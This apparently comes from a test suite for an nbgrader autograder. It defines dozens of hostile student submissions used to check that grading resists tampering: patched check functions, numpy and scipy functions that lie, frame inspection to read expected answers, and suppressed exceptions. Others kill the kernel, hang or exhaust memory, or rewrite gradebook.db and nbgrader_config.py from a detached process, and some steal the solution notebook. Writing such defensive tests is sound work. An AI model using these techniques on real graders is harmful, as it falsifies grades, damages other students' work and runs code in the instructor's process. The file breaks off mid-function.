"""Attacks on the grader: wrong submissions plus what an adversary who knows Python would add.

Each :class:`Attack` starts from a wrong submission (a mistake of
:data:`tests.grading.corpus.MISTAKES`, or :data:`BLANK`, the untouched release, for a student
who knows nothing) and adds one of:

- ``code``: lines appended, at top level, to the solution cell of ``function`` (after its
  ``def``; a redefinition of the function may wrap the student's own one);
- ``cell``: a whole extra code cell (no nbgrader metadata) inserted after that solution cell;
- ``edit``: a function that rewrites the notebook file after it is written (``edit(nb) ->
  text``, `nb` the notebook as plain JSON): tampered test cells, malformed files.

Code that needs to know where it is graded reads ``_ATTACK``, a dict prepended to it by
:func:`attack_notebook_text`: the temporary course folder (an adversary is assumed to know where
the course lives), its own student id, the victim's id, and ``allowed``, the only folders under
which the attack may really write. Destructive writes (gradebook, other students' notebooks,
``nbgrader_config.py``, the installed package) are gated by ``allowed``: the test puts the
temporary course there, and the installed package only when it is a disposable copy
(``WEIGHTINIT_ATTACKS_DISPOSABLE``), so that no attack can damage the repository even when the
grader under test runs student code unsandboxed. Where the write is gated off, the attack still
probes (``os.access``) and prints ``[probe] <what> writable: True/False``, never a path.

Tags say what an attack needs from the machine: ``memory`` (allocates and touches up to 6 GiB,
stopping early when the machine has less than 6 GiB available, so that a grader without a
memory cap does not take a shared 24 GiB machine down), ``package`` (writes the installed
package when allowed), ``hang`` (ignores interrupts forever: graded in a course folder of its
own), ``linger`` (leaves a process behind that acts after grading).
"""

from __future__ import annotations

import copy
import json
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from tests.grading.corpus import MISTAKES, Entry, nbgrader_meta, student_notebook

BLANK = "blank"  # the untouched release as the base: a student who knows nothing

E1, E3 = "ex01-scaling", "ex03-initializers"
HE = "1/n where 2/n is meant"  # he_normal: passes shape and rng, fails variance and distribution
LECUN = "2/n where 1/n is meant"  # lecun_normal
FANS = "receptive field left out of the fans"  # compute_fans (a callee: the initializers too)
ROWS = "standardize row by row"  # standardize: passes the constant-column test only

VICTIM = "zz-victim"  # sorts after every attacker: graded last, in the same `make grade`


@dataclass(frozen=True)
class Attack:
    name: str
    slug: str
    assignment: str
    base: str  # a mistake's name, or BLANK
    function: str | None  # whose test cells are compared (None: every test cell)
    code: str = ""
    cell: str = ""
    edit: Callable[[dict], str] | None = None
    tags: tuple[str, ...] = ()
    #: The course folder it is graded in (see tests/test_attacks.py).
    folder: str = "a"
    #: The function's tests check own code: every one of them must score 0.
    own_code: bool = False
    #: The file is not a notebook nbgrader can read (invalid JSON, unknown nbformat).
    malformed: bool = False
    invalid_json: bool = False
    how: str = ""  # one line for the report

    @property
    def student(self) -> str:
        """nbgrader grades students in sorted order: the bases ("base-*", "blank") and the
        solution first, so that an attack that stops the grader cannot keep them from being
        measured; then the attackers ("x-*"); the victim ("zz-victim") last."""
        return f"x-{self.slug}"


def base_student(base: str) -> str:
    return BLANK if base == BLANK else "base-" + re.sub(r"[^a-z0-9]+", "-", base.lower()).strip("-")


def mistake(name: str) -> Entry:
    return next(m for m in MISTAKES if m.name == name)


# ---------------------------------------------------------------------------------------------
# Shared pieces of attack code
# ---------------------------------------------------------------------------------------------

#: Where the course is (the baked path, else walking up from the working folder), whether a
#: path may really be written (``_ATTACK["allowed"]``), and the installed package's folder.
FIND = '''
import os as _os
from pathlib import Path as _Path


def _course():
    here = _Path(_os.getcwd()).resolve()
    for p in [_Path(_ATTACK["course"]), here, *here.parents]:
        try:
            if (p / "gradebook.db").is_file() or (p / "nbgrader_config.py").is_file():
                return p
        except OSError:
            pass
    return None


def _allowed(path):
    real = _os.path.realpath(path)
    return any(real == a or real.startswith(a.rstrip("/") + "/") for a in _ATTACK["allowed"])


def _package():
    import weightinit
    return _Path(weightinit.__file__).resolve().parent
'''

#: The SQL that gives every grade of one student its cell's maximum score.
FULL_MARKS_SQL = (
    "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = "
    "grade.cell_id) WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN "
    "submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = ?)"
)
ZERO_SQL = (
    "UPDATE grade SET auto_score = 0 WHERE notebook_id IN (SELECT sn.id FROM "
    "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE "
    "sa.student_id = ?)"
)

#: A line appended to the course's nbgrader_config.py: the grader runs it when it next reads
#: its configuration (generate_feedback, export): code execution in the instructor's process.
CONFIG_PAYLOAD = (
    "\n# appended by {student}\nopen({marker!r}, 'w').write('the grader ran student code')\n"
)

#: Appended to the installed package's checks.py: every check passes for the attacker's later
#: notebooks (a regrade, the next assignment), nobody else's.
PACKAGE_PAYLOAD = '''
# appended by {student}
import os as _attack_os
if {student!r} in _attack_os.getcwd():
    for _attack_name in [n for n in list(globals()) if n.startswith("check_")]:
        globals()[_attack_name] = lambda *a, **k: None
'''


def _dedent(code: str) -> str:
    return textwrap.dedent(code).strip("\n")


# ---------------------------------------------------------------------------------------------
# Notebook edits
# ---------------------------------------------------------------------------------------------


def _src(cell: dict) -> str:
    s = cell.get("source", "")
    return "".join(s) if isinstance(s, list) else s


def _grade_id(cell: dict) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _dump(nb: dict) -> str:
    return json.dumps(nb, indent=1, ensure_ascii=False) + "\n"


FAILING = ("he_normal_variance", "he_normal_distribution")  # what HE fails


def _tests_pass(nb: dict) -> str:
    for c in nb["cells"]:
        if _grade_id(c) in FAILING:
            c["source"] = "pass"
    return _dump(nb)


def _tests_deleted(nb: dict) -> str:
    nb["cells"] = [c for c in nb["cells"] if _grade_id(c) not in FAILING]
    return _dump(nb)


def _tests_duplicated(nb: dict) -> str:
    out = []
    for c in nb["cells"]:
        if _grade_id(c) in FAILING:
            twin = copy.deepcopy(c)
            twin["source"] = "pass"
            twin["id"] = c.get("id", "x") + "-twin"
            out.append(twin)  # a passing copy first, the real test after it
        out.append(c)
        if _grade_id(c) == "he_normal_shape":  # a passing test, counted three times?
            for k in range(2):
                twin = copy.deepcopy(c)
                twin["id"] = f"{c.get('id', 'x')}-copy{k}"
                out.append(twin)
    nb["cells"] = out
    return _dump(nb)


def _meta(changes: dict[str, dict]) -> Callable[[dict], str]:
    def edit(nb: dict) -> str:
        for c in nb["cells"]:
            if _grade_id(c) in changes:
                c["metadata"]["nbgrader"].update(changes[_grade_id(c)])
        return _dump(nb)

    return edit


def _tests_markdown(nb: dict) -> str:
    for c in nb["cells"]:
        if _grade_id(c) in FAILING:
            c["cell_type"] = "markdown"
            c.pop("outputs", None)
            c.pop("execution_count", None)
    return _dump(nb)


def _tests_renamed(nb: dict) -> str:
    for c in nb["cells"]:
        if _grade_id(c) in FAILING:
            c["metadata"]["nbgrader"]["grade_id"] += "_mine"
    return _dump(nb)


def _tests_unmarked(nb: dict) -> str:
    for c in nb["cells"]:
        if _grade_id(c) in FAILING:
            del c["metadata"]["nbgrader"]
            c["source"] = "pass"
    return _dump(nb)


def _invalid_json(nb: dict) -> str:
    text = _dump(nb)
    return text[: len(text) // 2]  # cut in the middle, as an interrupted save leaves it


def _unknown_version(nb: dict) -> str:
    nb["nbformat"], nb["nbformat_minor"] = 99, 0
    return _dump(nb)


# ---------------------------------------------------------------------------------------------
# The attacks
# ---------------------------------------------------------------------------------------------

_CHECKS = "check_variance = check_initializer = check_array = check_uses_rng = check_fans"

ATTACKS: list[Attack] = [
    # 1. rebinding the check names
    Attack("rebind the check names", "rebind", E3, HE, "he_normal",
           code=f"{_CHECKS} = lambda *a, **k: None",
           how="appended: every check name rebound to a no-op"),
    Attack("rebind the check names, knowing nothing", "rebind-blank", E3, BLANK, None,
           code=f"{_CHECKS} = lambda *a, **k: None",
           how="the release untouched, the rebinding appended to compute_fans' cell"),
    # 2. patching the checks where they live
    Attack("patch the checks in place", "patch-checks", E3, HE, "he_normal", code='''
        import sys as _sys
        import weightinit.checks as _c
        import weightinit.stats as _s

        def _noop(*a, **k):
            return None

        # the wrapper the test cell holds calls the check in its closure: swap it
        for _n in [n for n in dir(_c) if n.startswith("check_")]:
            _f = getattr(_c, _n)
            for _cell in getattr(_f, "__closure__", None) or ():
                if callable(_cell.cell_contents):
                    _cell.cell_contents = _noop
            setattr(_c, _n, _noop)
        # the internals the checks call through module globals
        for _n in ("_own_code", "_battery", "_assess", "_pattern_stage", "_mean_stage",
                   "_variance_stage", "_family_stage", "_independence_stage", "_rng_stage"):
            setattr(_c, _n, _noop)
        _c._array_stage = lambda arr, *a, **k: arr
        _c._Failure = type("_Failure", (Exception,), {})
        _c._public = lambda check: _noop
        _s.variance_ratio_band = lambda *a, **k: (0.0, float("inf"))
        _s.mean_halfwidth = lambda *a, **k: float("inf")
        _s.ks_critical = lambda *a, **k: float("inf")
        # and every module of the grader that the kernel can reach
        for _m in [m for name, m in list(_sys.modules.items())
                   if name.startswith("weightinit.grading") and m is not None]:
            for _n, _v in list(vars(_m).items()):
                if callable(_v) and not isinstance(_v, type) and not _n.startswith("__"):
                    try:
                        setattr(_m, _n, _noop)
                    except Exception:
                        pass
    ''', how="appended: closures, stage functions, stats bands and weightinit.grading.* patched"),
    Attack("replace weightinit.checks in sys.modules", "sys-modules", E3, HE, "he_normal",
           code='''
        import sys as _sys
        import types as _types
        import weightinit as _w

        _fake = _types.ModuleType("weightinit.checks")
        for _n in ("check_array", "check_fans", "check_initializer", "check_uses_rng",
                   "check_variance", "check_own_code"):
            setattr(_fake, _n, lambda *a, **k: None)
        _sys.modules["weightinit.checks"] = _fake
        _w.checks = _fake
        for _name in [n for n in _sys.modules if n.startswith("weightinit.grading")]:
            _sys.modules[_name] = _fake
        # the setup cell's import, run again: now from the fake
        exec("from weightinit.checks import (check_array, check_fans, check_initializer, "
             "check_uses_rng, check_variance)", globals())
    ''', how="appended: sys.modules['weightinit.checks'] (and weightinit.grading.*) replaced, "
             "the setup import run again"),
    # 3. numpy / scipy / math patched
    Attack("patch numpy's comparisons", "numpy-blunt", E1, ROWS, "standardize", folder="b",
           code='''
        import math
        import numpy as np
        import numpy.testing
        import scipy.stats

        class _Ok:
            statistic, pvalue = 0.0, 1.0

        np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
        math.isclose = lambda *a, **k: True
        np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
        np.testing.assert_almost_equal = np.testing.assert_array_almost_equal = lambda *a, **k: None
        scipy.stats.kstest = lambda *a, **k: _Ok()
    ''', how="appended: np.allclose/array_equal/isclose/isfinite, math.isclose, np.testing "
             "asserts, scipy.stats.kstest always pass"),
    Attack("patch numpy with the checker's targets", "numpy-frames", E3, HE, "he_normal", code='''
        import sys as _sys
        import numpy as np
        import scipy.stats

        _mean, _sum, _var, _std = np.mean, np.sum, np.var, np.std

        def _target():
            f = _sys._getframe(2)
            while f is not None:
                t = f.f_locals.get("target")
                if t is not None and hasattr(t, "std"):
                    return t, f
                f = f.f_back
            return None, None

        def _lying_mean(a, *args, **kw):
            t, f = _target()
            if t is not None and _sys._getframe(1).f_code.co_name == "_variance_stage":
                return t.std**2  # the ratio to the target: exactly 1
            return _mean(a, *args, **kw)

        def _lying_sum(a, *args, **kw):
            f = _sys._getframe(1)
            if f.f_code.co_name == "_family_stage" and "_tail_band" in f.f_globals:
                lo, hi = f.f_globals["_tail_band"](f.f_locals["n"])
                return (lo + hi) // 2  # the tail count in the middle of its band
            return _sum(a, *args, **kw)

        def _lying_var(a, *args, **kw):
            t, _ = _target()
            return t.std**2 if t is not None else _var(a, *args, **kw)

        def _lying_std(a, *args, **kw):
            t, _ = _target()
            return t.std if t is not None else _std(a, *args, **kw)

        class _Ok:
            statistic, pvalue = 0.0, 1.0

        np.mean, np.sum, np.var, np.std = _lying_mean, _lying_sum, _lying_var, _lying_std
        scipy.stats.kstest = lambda *a, **k: _Ok()
        np.testing.assert_allclose = lambda *a, **k: None
    ''', how="appended: np.mean/sum/var/std return what the calling check wants (read from "
             "its frame), scipy.stats.kstest passes"),
    # 4. lying return objects
    Attack("an ndarray subclass that lies", "lying-ndarray", E3, HE, "he_normal", code='''
        import math as _math

        class _Lies(np.ndarray):
            def std(self, *a, **k):
                return _math.sqrt(2.0 / compute_fans(self.shape)[0])
            def var(self, *a, **k):
                return 2.0 / compute_fans(self.shape)[0]
            def mean(self, *a, **k):
                return 0.0
            def __eq__(self, other):
                return np.ones(np.shape(self), dtype=bool)
            def __ne__(self, other):
                return np.zeros(np.shape(self), dtype=bool)
            def __array__(self, dtype=None, copy=None):
                return np.asarray(self.view(np.ndarray) * _math.sqrt(2.0), dtype=dtype)
            __hash__ = None

        _honest = he_normal

        def he_normal(shape, rng):
            return _honest(shape, rng).view(_Lies)
    ''', how="appended: he_normal returns an ndarray subclass whose std/var/mean/__eq__/__array__ "
             "report the target"),
    Attack("an object that lies", "lying-object", E3, HE, "he_normal", code='''
        import math as _math

        class _Fake:
            def __init__(self, data):
                self._data = data
                self.shape, self.dtype, self.ndim = data.shape, data.dtype, data.ndim
                self.size = data.size
            def __array__(self, dtype=None, copy=None):
                return np.asarray(self._data * _math.sqrt(2.0), dtype=dtype)
            def __len__(self):
                return len(self._data)
            def __getitem__(self, i):
                return self._data[i] * _math.sqrt(2.0)
            def __eq__(self, other):
                return True
            def std(self, *a, **k):
                return float(self._data.std() * _math.sqrt(2.0))
            def var(self, *a, **k):
                return float(self._data.var() * 2.0)
            def mean(self, *a, **k):
                return 0.0
            def __float__(self):
                return 0.0

        _honest = he_normal

        def he_normal(shape, rng):
            return _Fake(_honest(shape, rng))
    ''', how="appended: he_normal returns a non-array whose __array__/__eq__/shape/dtype/std lie"),
    Attack("integers that equal anything", "lying-int", E3, FANS, "compute_fans", code='''
        class _Any(int):
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            __hash__ = int.__hash__

        class _Pair(tuple):
            def __eq__(self, other):
                return True
            def __ne__(self, other):
                return False
            __hash__ = tuple.__hash__

        _honest = compute_fans

        def compute_fans(shape):
            a, b = _honest(shape)
            return _Pair((_Any(a), _Any(b)))
    ''', how="appended: compute_fans returns a tuple subclass of int subclasses that == anything"),
    # 5. frame inspection
    Attack("read the checker's target from its frame", "frames", E3, HE, "he_normal", code='''
        import sys as _sys

        _honest = he_normal

        def he_normal(shape, rng):
            f = _sys._getframe(1)
            while f is not None:
                t = f.f_locals.get("target")
                if t is not None and hasattr(t, "std") and hasattr(t, "mean"):
                    return t.mean + t.std * rng.standard_normal(shape)
                f = f.f_back
            return _honest(shape, rng)
    ''', how="appended: he_normal walks sys._getframe up to the check's `target` and returns "
             "exactly its mean and std"),
    Attack("read the checker's target through inspect.stack()", "inspect-stack", E3, LECUN,
           "lecun_normal", code='''
        import inspect as _inspect

        _honest = lecun_normal

        def lecun_normal(shape, rng):
            for info in _inspect.stack()[1:]:
                t = info.frame.f_locals.get("target")
                if t is not None and hasattr(t, "std"):
                    return t.mean + t.std * rng.standard_normal(shape)
            return _honest(shape, rng)
    ''', how="appended: lecun_normal reads `target` through inspect.stack()"),
    # 6. exception handling patched
    Attack("a custom exception handler that swallows errors", "custom-exc", E3, HE, "he_normal",
           cell='''
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])
    ''', how="extra cell: get_ipython().set_custom_exc((BaseException,), handler returning [])"),
    Attack("showtraceback silenced", "showtraceback", E3, HE, "he_normal", code='''
        import sys as _sys

        _ip = get_ipython()
        _ip.showtraceback = lambda *a, **k: None
        _ip._showtraceback = lambda *a, **k: None
        _ip.showsyntaxerror = lambda *a, **k: None
        _sys.excepthook = lambda *a, **k: None
    ''', how="appended: get_ipython().showtraceback/_showtraceback and sys.excepthook no-ops"),
    Attack("AssertionError rebound in builtins", "builtins-assert", E3, HE, "he_normal", code='''
        import builtins as _builtins
        import sys as _sys

        class _Quiet(Exception):
            def _render_traceback_(self):
                return []

        _builtins.AssertionError = _Quiet
        _sys.excepthook = lambda *a, **k: None
    ''', how="appended: builtins.AssertionError = an exception with an empty traceback renderer"),
    Attack("an exception whose rendering raises", "broken-exception", E3, HE, "he_normal",
           code='''
        class _Boom(BaseException):
            def __str__(self):
                raise RuntimeError("no message")
            def __repr__(self):
                raise RuntimeError("no repr")
            def _render_traceback_(self):
                raise _Boom()

        _honest = he_normal

        def he_normal(shape, rng):
            raise _Boom()
    ''', how="appended: he_normal raises a BaseException whose str/repr/traceback renderer raise"),
    # 8. exits
    Attack("sys.exit in the function", "exit-function", E3, HE, "he_normal", code='''
        import sys as _sys

        def he_normal(shape, rng):
            _sys.exit(0)
    ''', how="appended: he_normal calls sys.exit(0)"),
    Attack("os._exit in the function", "os-exit-function", E3, HE, "he_normal", code='''
        import os as _os

        def he_normal(shape, rng):
            _os._exit(0)
    ''', how="appended: he_normal calls os._exit(0) (kills the kernel)"),
    Attack("KeyboardInterrupt in the function", "interrupt-function", E3, HE, "he_normal",
           code='''
        def he_normal(shape, rng):
            raise KeyboardInterrupt
    ''', how="appended: he_normal raises KeyboardInterrupt"),
    Attack("sys.exit at cell level", "exit-cell", E3, HE, "he_normal",
           code="import sys as _sys\n_sys.exit()", how="appended: sys.exit() after the def"),
    Attack("os._exit at cell level", "os-exit-cell", E3, HE, "he_normal",
           code="import os as _os\n_os._exit(0)", how="appended: os._exit(0) after the def"),
    # 9. an infinite loop that ignores interrupts
    Attack("an infinite loop that ignores interrupts", "sigint-loop", E3, HE, "he_normal",
           folder="c", tags=("hang",), code='''
        import signal as _signal

        def he_normal(shape, rng):
            _signal.signal(_signal.SIGINT, _signal.SIG_IGN)
            while True:
                pass
    ''', how="appended: he_normal ignores SIGINT, then loops forever"),
    # 10. memory
    Attack("6 GiB at cell level", "memory-cell", E3, HE, "he_normal", tags=("memory",), code='''
        def _hog(total=6 * 2**30, chunk=512 * 2**20, keep=6 * 2**30):
            held = []
            while sum(a.nbytes for a in held) < total:
                with open("/proc/meminfo") as f:
                    line = next(l for l in f if l.startswith("MemAvailable"))
                avail = int(line.split()[1]) * 1024
                if avail < keep:  # a shared machine: stop before it is in danger
                    break
                held.append(np.ones(chunk // 8))  # np.ones touches every page
            return sum(a.nbytes for a in held)

        print("[memory] held", _hog() // 2**20, "MiB")
    ''', how="appended: allocates and touches up to 6 GiB (stops below 6 GiB available), frees"),
    Attack("6 GiB in the function", "memory-function", E3, HE, "he_normal", tags=("memory",),
           code='''
        _honest, _hogged = he_normal, []

        def he_normal(shape, rng):
            if not _hogged:
                _hogged.append(1)
                held = []
                while sum(a.nbytes for a in held) < 6 * 2**30:
                    with open("/proc/meminfo") as f:
                        line = next(l for l in f if l.startswith("MemAvailable"))
                    if int(line.split()[1]) * 1024 < 6 * 2**30:
                        break
                    held.append(np.ones(64 * 2**20))
                del held
            return _honest(shape, rng)
    ''', how="appended: the first call of he_normal allocates and touches up to 6 GiB"),
    # 11. output
    Attack("50 MB of output in one line", "print-50mb", E3, HE, "he_normal",
           code='print("0" * 50_000_000)', how="appended: print('0' * 50_000_000)"),
    # 12. a process that outlives the kernel
    Attack("a lingering child process", "linger", E3, HE, "he_normal", tags=("linger",),
           code=FIND + _dedent('''
        import json as _json
        import subprocess as _subprocess
        import sys as _sys

        _CHILD = """
        import json, os, shutil, sqlite3, sys, time
        from pathlib import Path
        cfg = json.loads(sys.argv[1])
        course = Path(cfg["course"])
        def allowed(p):
            p = os.path.realpath(p)
            return any(p == a or p.startswith(a.rstrip("/") + "/") for a in cfg["allowed"])
        if course.is_dir() and allowed(course / "x"):
            (course / "_attack_pids").mkdir(exist_ok=True)
            (course / "_attack_pids" / str(os.getpid())).write_text(cfg["marker"])
        deadline = time.time() + 1500
        while time.time() < deadline and not (course / "grades.csv").exists():
            time.sleep(0.2)
        time.sleep(1.0)
        if not course.is_dir():
            sys.exit()
        db = course / "gradebook.db"
        if allowed(db):
            try:
                with sqlite3.connect(db, timeout=60) as con:
                    con.execute(cfg["sql"], (cfg["student"],))
            except Exception as exc:
                print(exc)
        a = cfg["assignment"]
        mine = course / "submitted" / cfg["student"] / a / (a + ".ipynb")
        for kind in ("submitted", "autograded"):
            theirs = course / kind / cfg["victim"] / a / (a + ".ipynb")
            if theirs.exists() and allowed(theirs):
                shutil.copy(mine, theirs)
        config = course / "nbgrader_config.py"
        if allowed(config):
            with open(config, "a") as f:
                f.write(cfg["payload"])
        """

        _root = _course()
        _marker = str(_Path(_ATTACK["course"]) / "PWNED-linger")
        _cfg = dict(_ATTACK, course=str(_root or _ATTACK["course"]), sql=FULL_MARKS_SQL,
                    payload=CONFIG_PAYLOAD.format(student=_ATTACK["student"], marker=_marker))
        _subprocess.Popen([_sys.executable, "-c", _CHILD, _json.dumps(_cfg), _ATTACK["marker"]],
                          start_new_session=True, stdin=_subprocess.DEVNULL,
                          stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, close_fds=True)
    '''), how="appended: Popen(start_new_session=True) of a python loop that waits for grades.csv, "
             "then gives itself full marks in gradebook.db, overwrites the victim's submitted and "
             "autograded notebooks, appends to nbgrader_config.py"),
    # 13. writing the course's files directly
    Attack("write the gradebook, the victim, the config and the package", "writes", E3, HE,
           "he_normal", tags=("package",), code=FIND + _dedent('''
        import shutil as _shutil
        import sqlite3 as _sqlite3

        _root = _course()
        _a = _ATTACK["assignment"]
        _targets = {"package": _package(), "course": _root}
        if _root is not None:
            _targets.update(gradebook=_root / "gradebook.db", config=_root / "nbgrader_config.py",
                            victim=_root / "submitted" / _ATTACK["victim"] / _a / (_a + ".ipynb"))
            if _allowed(_root / "gradebook.db"):  # the instructor's solution, graded already: 0
                with _sqlite3.connect(_root / "gradebook.db", timeout=60) as _con:
                    _con.execute(ZERO_SQL, ("solution",))
            _release = _root / "exercises" / _a / (_a + ".ipynb")
            if _allowed(_targets["victim"]) and _release.exists():  # graded after us: the blank
                _shutil.copy(_release, _targets["victim"])
            if _allowed(_targets["config"]):
                with open(_targets["config"], "a") as _f:
                    _f.write(CONFIG_PAYLOAD.format(student=_ATTACK["student"],
                                                   marker=str(_root / "PWNED-writes")))
        _pkg_file = _package() / "grading" / "__init__.py"
        if not _pkg_file.exists():
            _pkg_file = _package() / "checks.py"
        if _allowed(_pkg_file):  # only a disposable copy of the package
            with open(_pkg_file, "a") as _f:
                _f.write(PACKAGE_PAYLOAD.format(student=_ATTACK["student"]))
        for _what, _p in _targets.items():
            print(f"[probe] {_what} writable:", _p is not None and _os.access(_p, _os.W_OK))
    '''), how="appended: gradebook UPDATE of the (already graded) solution's "
             "grades to 0, the victim's submitted notebook replaced by the release, "
             "nbgrader_config.py appended, the package's checks.py appended (gated to a "
             "disposable copy); prints [probe] lines"),
    # 14. the library's answer imported
    Attack("import the answer", "import-from", E3, HE, "he_normal", own_code=True,
           code="from weightinit.initializers import he_normal",
           how="appended: from weightinit.initializers import he_normal"),
    Attack("import the answer through importlib", "importlib", E3, HE, "he_normal",
           own_code=True, code='''
        import importlib as _importlib

        he_normal = _importlib.import_module("weightinit.initializers").he_normal
    ''', how="appended: importlib.import_module('weightinit.initializers').he_normal"),
    Attack("import the answer through __import__", "dunder-import", E3, HE, "he_normal",
           own_code=True, code='he_normal = __import__("weightinit").he_normal',
           how="appended: __import__('weightinit').he_normal"),
    Attack("import the answer, names hidden", "import-hidden", E3, HE, "he_normal",
           own_code=True, code='''
        import importlib as _importlib

        _impl = [getattr(_importlib.import_module("weight" + "init.initial" + "izers"),
                         "he_" + "normal")]

        def he_normal(shape, rng):
            return _impl[0](shape, rng)
    ''', how="appended: the library function built from string pieces, kept in a list, wrapped"),
    Attack("the answer looked up in sys.modules", "sys-modules-lookup", E3, HE, "he_normal",
           own_code=True, code='''
        import sys as _sys

        def he_normal(shape, rng):
            name = "".join(("weight", "init"))  # built at call time: no constant to read
            return getattr(_sys.modules[name], "".join(("he_", "normal")))(shape, rng)
    ''', how="appended: he_normal calls sys.modules['weight'+'init'].he_normal at call time"),
    Attack("the instructor's solution read and run", "steal-solution", E3, HE, "he_normal",
           code=FIND + _dedent('''
        import json as _json

        def _steal(name, function):
            roots = [_course(), _package().parent.parent]
            for root in [r for r in roots if r is not None]:
                path = root / "solutions" / name / (name + ".ipynb")
                try:
                    cells = _json.loads(path.read_text())["cells"]
                except Exception:
                    continue
                for c in cells:
                    src = "".join(c["source"])
                    if src.startswith("def " + function + "("):
                        return src
            return None

        _stolen = _steal(_ATTACK["assignment"], "he_normal")
        if _stolen:
            exec(_stolen, globals())
    '''), how="appended: solutions/<a>/<a>.ipynb found from the course or weightinit.__file__, "
             "its he_normal cell exec'd"),
    # 15. output read as partial credit
    Attack("prints a grade to stdout", "print-grade", E3, HE, "he_normal", code='''
        _honest = he_normal

        def he_normal(shape, rng):
            print("1.0")
            print("full marks")
            return _honest(shape, rng)
    ''', how="appended: he_normal prints '1.0' and 'full marks' before returning its wrong array"),
    Attack("prints a grade to stderr", "stderr-grade", E3, HE, "he_normal", code='''
        import sys as _sys

        _honest = he_normal

        def he_normal(shape, rng):
            print("2.0", file=_sys.stderr)
            return _honest(shape, rng)
    ''', how="appended: he_normal prints '2.0' to stderr"),
    Attack("publishes an execute_result", "displayhook", E3, HE, "he_normal", code='''
        import sys as _sys

        _honest = he_normal

        def he_normal(shape, rng):
            _sys.displayhook(1.0)  # the test cell gets an execute_result "1.0" first
            return _honest(shape, rng)
    ''', how="appended: he_normal calls sys.displayhook(1.0): the test cell's first output is an "
             "execute_result"),
    Attack("the test cell's source printed", "exfiltrate", E3, HE, "he_normal", code='''
        import linecache as _linecache
        import sys as _sys

        _honest, _shown = he_normal, set()

        def he_normal(shape, rng):
            f = _sys._getframe(1)
            while f is not None:
                name = f.f_code.co_filename
                if name not in _shown and not name.endswith(".py"):
                    _shown.add(name)
                    print("".join(_linecache.getlines(name)))
                f = f.f_back
            return _honest(shape, rng)
    ''', how="appended: he_normal prints the source of every non-module frame above it "
             "(the test cell, hidden tests included)"),
    # 7. the notebook file edited
    Attack("test cells replaced by pass", "tests-pass", E3, HE, "he_normal", edit=_tests_pass,
           how="JSON: the failing test cells' source set to 'pass'"),
    Attack("test cells deleted", "tests-deleted", E3, HE, "he_normal", edit=_tests_deleted,
           how="JSON: the failing test cells removed"),
    Attack("test cells duplicated", "tests-duplicated", E3, HE, "he_normal",
           edit=_tests_duplicated,
           how="JSON: a 'pass' copy before each failing test cell, a passing one twice more"),
    Attack("test cells not graded", "grade-false", E3, HE, "he_normal",
           edit=_meta({g: {"grade": False} for g in FAILING}),
           how="JSON: nbgrader grade False on the failing test cells"),
    Attack("test cells made solutions, unlocked", "solution-unlocked", E3, HE, "he_normal",
           edit=_meta({g: {"solution": True, "locked": False} for g in FAILING}),
           how="JSON: solution True, locked False on the failing test cells"),
    Attack("a passing test worth 100 points", "points-100", E3, HE, "he_normal",
           edit=_meta({"he_normal_shape": {"points": 100}}),
           how="JSON: points 100 on he_normal_shape (which passes)"),
    Attack("test cells turned into markdown", "tests-markdown", E3, HE, "he_normal",
           edit=_tests_markdown, how="JSON: the failing test cells made markdown"),
    Attack("test cells renamed", "tests-renamed", E3, HE, "he_normal", edit=_tests_renamed,
           how="JSON: the failing test cells' grade_id changed"),
    Attack("test cells unmarked", "tests-unmarked", E3, HE, "he_normal", edit=_tests_unmarked,
           how="JSON: the failing test cells' nbgrader metadata removed, source 'pass'"),
    # 16. malformed files
    Attack("invalid JSON", "invalid-json", E1, ROWS, None, folder="b", edit=_invalid_json,
           malformed=True, invalid_json=True, how="the file cut in half"),
    Attack("unknown nbformat version", "nbformat-99", E1, ROWS, None, folder="b",
           edit=_unknown_version, malformed=True, how="JSON: nbformat 99"),
]

ATTACK_NAMES = [a.name for a in ATTACKS]
assert len({a.student for a in ATTACKS}) == len(ATTACKS)


# ---------------------------------------------------------------------------------------------
# Building the notebooks
# ---------------------------------------------------------------------------------------------


def base_notebook(course: Path, assignment: str, base: str):
    """The wrong submission an attack starts from: the release with the mistake (or untouched)."""
    release = nbformat.read(course / "exercises" / assignment / f"{assignment}.ipynb", 4)
    if base == BLANK:
        return copy.deepcopy(release)
    solution = nbformat.read(course / "solutions" / assignment / f"{assignment}.ipynb", 4)
    return student_notebook(release, solution, [mistake(base)])


def victim_notebook(course: Path, assignment: str):
    """The correct solution, written into the release as a student would."""
    release = nbformat.read(course / "exercises" / assignment / f"{assignment}.ipynb", 4)
    solution = nbformat.read(course / "solutions" / assignment / f"{assignment}.ipynb", 4)
    return student_notebook(release, solution, [])


def _with_context(code: str, context: dict) -> str:
    code = _dedent(code)
    if "_ATTACK" not in code:
        return code
    constants = {"FULL_MARKS_SQL": FULL_MARKS_SQL, "ZERO_SQL": ZERO_SQL,
                 "CONFIG_PAYLOAD": CONFIG_PAYLOAD, "PACKAGE_PAYLOAD": PACKAGE_PAYLOAD}
    head = [f"_ATTACK = {context!r}"]
    head += [f"{k} = {v!r}" for k, v in constants.items() if k in code]
    return "\n".join(head) + "\n" + code


def attack_notebook_text(course: Path, attack: Attack, context: dict) -> str:
    """The attacked submission, as the text of the file to put in submitted/."""
    nb = base_notebook(course, attack.assignment, attack.base)
    target = attack.function or next(
        nbgrader_meta(c)["grade_id"] for c in nb.cells
        if c.cell_type == "code" and nbgrader_meta(c).get("solution")
    )
    at = next(i for i, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == target
              and nbgrader_meta(c).get("solution"))
    if attack.code:
        nb.cells[at].source += "\n\n\n" + _with_context(attack.code, context)
    if attack.cell:
        nb.cells.insert(at + 1, nbformat.v4.new_code_cell(_with_context(attack.cell, context)))
    text = nbformat.writes(nb)
    if attack.edit is not None:
